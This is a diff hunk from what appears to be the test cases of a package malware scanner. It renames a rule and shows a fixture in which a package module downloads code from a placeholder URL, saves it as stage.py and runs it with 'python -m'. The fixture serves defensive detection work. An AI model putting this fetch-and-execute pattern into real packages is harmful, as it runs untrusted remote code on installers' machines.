@@ -142,7 +142,7 @@ CASES = [
     # `python -m tensorboard.main` beside a localhost readiness probe and a log file (gympn),
     # `python -m pytest` in an agent (patcherly): installed modules, not a file the code wrote;
     # a module the code writes itself and runs with -m is
-    ("STATIC-DOWNLOAD-RUN-SCRIPT",
+    ("STATIC-DOWNLOAD-RUN-MODULE",
      (P, "pkg", sdist("pkg", module('import requests, subprocess, sys\nr = requests.get(U)\n'
                                     'with open("stage.py", "wb") as f:\n    f.write(r.content)\n'
                                     'subprocess.Popen([sys.executable, "-m", "stage"])\n'))),
